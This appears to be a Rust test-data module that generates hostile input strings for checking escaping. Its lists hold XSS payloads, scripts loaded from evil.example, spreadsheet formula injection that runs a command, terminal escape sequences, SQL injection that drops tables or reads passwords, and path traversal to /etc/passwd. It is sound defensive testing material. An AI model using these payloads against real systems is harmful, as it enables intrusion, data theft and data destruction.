//! Texts of attackers, made from seeds: each would do something in some place that forgets to escape it.
//!
//! Owns what they are made of. Must be the same in every run.

/// What runs, where it is let. `__hit` is what the pages of the tests watch.
const RUNNING: [&str; 44] = [
    "<script>__hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=__hit()>",
    "<img/src/onerror=__hit()>",
    "<svg onload=__hit()>",
    "<svg><script>__hit()</script></svg>",
    "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:__hit()\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x\"/></svg>",
    "<svg><style>@import'//evil.example/x.css'</style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=__hit()>",
    "<iframe src=\"javascript:__hit()\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__hit()</script>\"></iframe>",
    "<object data=\"javascript:__hit()\"></object>",
    "<embed src=\"javascript:__hit()\">",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:__hit()\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:__hit()><button>Sign in again</button></form>",
    "<input autofocus onfocus=__hit()>",
    "<select autofocus onfocus=__hit()></select>",
    "<details open ontoggle=__hit()>",
    "<video><source onerror=__hit()></video>",
    "<body onpageshow=__hit()>",
    "<marquee onstart=__hit()>",
    "<a href=\"javascript:__hit()\">the finding</a>",
    "<a href=\"data:text/html,<script>__hit()</script>\">x</a>",
    "<style>*{display:none!important}</style>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">",
    "<xss id=x tabindex=1 onfocus=__hit()>",
    "<noscript><p title=\"</noscript><img src=x onerror=__hit()>\">",
    "<template><script>__hit()</script></template>",
    "<textarea><script>__hit()</script>",
    "<table><tr><td>a row too many</td></tr></table>",
    "javascript:__hit()",
    "JaVaScRiPt:__hit()//",
    "java\tscript:__hit()",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "//evil.example/%2f..",
    "\\\\evil.example\\x",
    "{{constructor.constructor('__hit()')()}}",
    "${__hit()}",
    "<%= __hit() %>",
];

/// What gets out of the place where a text stands.
const ESCAPES: [&str; 20] = [
    "",
    "\">",
    "'>",
    "\" onmouseover=__hit() x=\"",
    "' autofocus onfocus='__hit()",
    "` onload=__hit() `",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</td></tr></table>",
    "</svg>",
    "-->",
    "<!--",
    "]]>",
    "\\\");__hit();//",
    "';__hit();'",
    "\u{2028}__hit()\u{2029}",
    "&quot;&gt;",
];

/// What harms elsewhere: spreadsheets, terminals, databases, layouts, readers.
const OTHER: [&str; 40] = [
    "=HYPERLINK(\"http://evil.example\",\"Invoice\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\",=1+1,\"",
    "\r\n=1+1,second,line",
    "\u{1b}[2J\u{1b}[H\u{1b}[31mroot@host:~#",
    "\u{1b}]0;a new title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\a link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m\u{9d}0;x\u{9c}",
    "\u{0}after a NUL",
    "\u{8}\u{8}\u{8}\u{8}backspaces",
    "\u{7f}\u{80}\u{85}\u{9f}",
    "\u{202e}gnp.exe\u{202c}",
    "\u{2066}\u{2067}\u{2068}isolated\u{2069}",
    "a\u{200b}b\u{200c}c\u{200d}d\u{feff}e\u{ad}f",
    "שלום עולם /admin",
    "مرحبا بالعالم/بحث",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪🧑🏿‍🚀",
    "Z\u{35e}\u{334}\u{321}a\u{35e}\u{334}\u{321}l\u{35e}\u{334}\u{321}g\u{35e}\u{334}\u{321}o\u{35e}\u{334}\u{321}",
    "\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}\u{12031}\u{12031}",
    "\u{ff1c}script\u{ff1e}__hit()\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3E__hit()%3C/script%3E",
    "%253Cscript%253E__hit()%253C/script%253E",
    "&lt;script&gt;__hit()&lt;/script&gt;",
    "&#60;script&#62;__hit()&#60;/script&#62;",
    "\\u003cscript\\u003e__hit()\\u003c/script\\u003e",
    "+ADw-script+AD4-__hit()+ADw-/script+AD4-",
    "' OR '1'='1' --",
    "'; DROP TABLE requests; --",
    "1) UNION SELECT password FROM users --",
    "%' ESCAPE '\\' OR 1=1",
    "../../../../etc/passwd",
    "__proto__",
    "constructor[prototype][x]",
    "\u{fffd}\u{ffff}\u{10ffff}",
];

/// Characters of the longest text. Longer ones are cut where they are stored.
const LONG: usize = 2_000;

/// So many texts, no two of them the same.
pub(super) fn make(count: usize) -> Vec<String> {
    let mut dice = fastrand::Rng::with_seed(0x5eed);
    let mut texts: Vec<String> = Vec::with_capacity(count);
    for number in 0..count {
        let text = match number % 10 {
            0..6 => {
                let running = RUNNING[number % RUNNING.len()];
                let text = format!(
                    "{}{running}{}",
                    dice.choice(ESCAPES).unwrap_or(""),
                    dice.choice(ESCAPES).unwrap_or("")
                );
                encoded(&text, dice.u32(0..8), &mut dice)
            }
            6..9 => OTHER[dice.usize(0..OTHER.len())].to_owned(),
            _ => {
                let unit =
                    dice.choice(["W", "<b>", "a ", "\u{202e}", "\"><", "é", "👾", "%00"]).unwrap_or("W");
                unit.repeat(dice.usize(50..LONG) / unit.len())
            }
        };
        texts.push(match number % 3 {
            0 => format!("{text}{number}"),
            // What begins a cell of a table has to stand at the beginning.
            _ => format!("{text} {number}"),
        });
    }
    texts
}

/// The same in a form that some layer may undo.
fn encoded(text: &str, how: u32, dice: &mut fastrand::Rng) -> String {
    match how {
        0 => text.bytes().map(|byte| format!("%{byte:02x}")).collect(),
        1 => text
            .chars()
            .map(|c| if c == '<' || c == '"' { format!("&#{};", c as u32) } else { c.to_string() })
            .collect(),
        2 => text.chars().map(|c| if dice.bool() { c.to_ascii_uppercase() } else { c }).collect(),
        3 => text.replace(' ', "/"),
        4 => text.replace('<', "<\u{0}").replace(' ', "\u{c}"),
        _ => text.to_owned(),
    }
}
